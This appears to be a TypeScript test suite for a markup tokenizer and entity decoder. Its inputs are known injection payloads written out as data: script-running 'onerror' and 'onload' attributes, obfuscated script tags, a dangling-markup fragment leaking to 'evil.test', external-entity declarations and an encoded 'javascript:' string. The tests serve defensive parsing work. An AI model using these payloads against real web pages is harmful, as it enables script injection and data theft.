import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { decodeEntities, tokenizeMarkup } from './markup.ts';

/** Markup in one line: `kind name[attribute=value …]`. */
function shown(text: string): string {
  return tokenizeMarkup(text)
    .map(({ kind, name, attributes, words, isClosed }) => {
      const inside = [...attributes.map((attribute) => `${attribute.name}=${attribute.value}`), ...words].join('|');
      return `${kind} ${name}${inside === '' ? '' : `[${inside}]`}${isClosed || kind === 'comment' || kind === 'cdata' ? '' : ' …'}`;
    })
    .join(', ');
}

const rows: readonly (readonly [string, string])[] = [
  ['x < y && y > z', ''],
  ['a <3 b', ''],
  ['<b>x</b>', 'start b, end b'],
  ['<img src=x onerror=alert(1)>', 'start img[src=x|onerror=alert(1)]'],
  ['<IMG/SRC="a>b"/OnLoad=\'x\'/>', 'start img[src=a>b|onload=x]'],
  ['<svg/onload=alert(1)//', 'start svg[onload=alert(1)//] …'],
  ['<a href = "x" title>', 'start a[href=x|title=]'],
  ['<img src="a"onerror="b">', 'start img[src=a|onerror=b]'],
  ['<img src=`x onerror=b>', 'start img[src=`x|onerror=b]'],
  ['<scr\0ipt>', 'start script'],
  ['<\0script>', 'start script'],
  ['<script<x>', 'start script'],
  ['<x =a=b>', 'start x[=a=b]'],
  ['<a "b"=c>', 'start a["b"=c]'],
  ['<a href="x <b>', 'start a[href=x <b>|x=|<b=]'],
  ["<img src='//evil.test/?x=", 'start img[src=//evil.test/?x=|evil.test=|?x=] …'],
  ['</script x=1>', 'end script[x=1]'],
  ['<!-- <b> -->', 'comment , start b'],
  ['<![CDATA[<b>]]>', 'cdata , start b'],
  ['<?xml version="1.0" encoding=\'UTF-7\'?>', 'instruction xml[version=1.0|encoding=UTF-7|?=]'],
  ['<!DOCTYPE html>', 'declaration doctype[html]'],
  ['<!doctype r [<!ENTITY % x SYSTEM "a>b"> %x;]>', 'declaration doctype[r], declaration entity[%|x|SYSTEM|"a>b]'],
  ['<!ENTITY e PUBLIC \'p\' "s" NDATA n>', 'declaration entity[e|PUBLIC|\'p|"s|NDATA|n]'],
  ['<!ENTITY e "open', 'declaration entity[e|"open] …'],
  ['Array<string>', 'start string'],
  ['<a\nb\tc\r=\fd>', 'start a[b=|c=d]'],
];
for (const [text, expected] of rows) test(`reads ${JSON.stringify(text)}`, () => assert.equal(shown(text), expected));

test('decodes character references', () => {
  assert.equal(decodeEntities('&#106;&#x61&#0000118;&Tab;&colon;&lpar;&quot;&unknown;&amp;lt; & x'), 'jav\t:("&unknown;&lt; & x');
  assert.equal(decodeEntities('&#x110000;&#0;&QUOT;'), '\ufffd\0"');
});

test('reads any text: no throw, in order, inside the text', () => {
  const piece = fc.constantFrom(
    '<',
    '>',
    '<!',
    '<!--',
    '-->',
    '"',
    "'",
    '=',
    '/',
    'a',
    ' ',
    '\0',
    '<?',
    '[',
    ']',
    'on',
    '<!ENTITY ',
    '%',
    '</',
  );
  fc.assert(
    fc.property(fc.array(fc.oneof(piece, fc.string({ unit: 'binary', maxLength: 5 })), { maxLength: 40 }), (parts) => {
      const text = parts.join('');
      let last = 0;
      for (const token of tokenizeMarkup(text)) {
        assert.ok(token.start >= last && token.end > token.start && token.end <= text.length);
        last = token.end;
        for (const { start, valueStart, end } of token.attributes)
          assert.ok(start >= token.start && valueStart <= end && end <= text.length);
      }
    }),
    { numRuns: 1000 },
  );
});

test('takes linear time', () => {
  for (const fill of ['<', '<a ', '<a b="', "<!x '", '<!--', '<![CDATA[', '<a/', '<a b=', '</a', '<?x ', '<!doctype [', '<a b=\'"']) {
    const start = performance.now();
    tokenizeMarkup(fill.repeat(200_000 / fill.length));
    assert.ok(performance.now() - start < 500, fill);
  }
});
